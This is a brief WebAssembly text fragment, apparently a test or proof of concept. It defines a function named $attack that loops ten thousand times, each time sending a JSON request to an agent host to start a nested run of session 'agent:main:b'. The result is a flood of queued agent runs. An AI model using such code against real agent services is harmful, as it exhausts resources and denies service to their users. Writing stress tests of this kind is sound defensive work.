  ;; Queues ten thousand runs in one step.
  (data (i32.const 2048) "{\"op\":\"run\",\"sessionKey\":\"agent:main:b\",\"message\":\"go\",\"group\":\"nested\"}")
  (func $attack (local $n i32)
    (loop $again
      (drop (call $agent (call $request (i32.const 2048))))
      (br_if $again (i32.lt_u (local.tee $n (i32.add (local.get $n) (i32.const 1))) (i32.const 10000))))
    (call $say (i32.const 1536)))
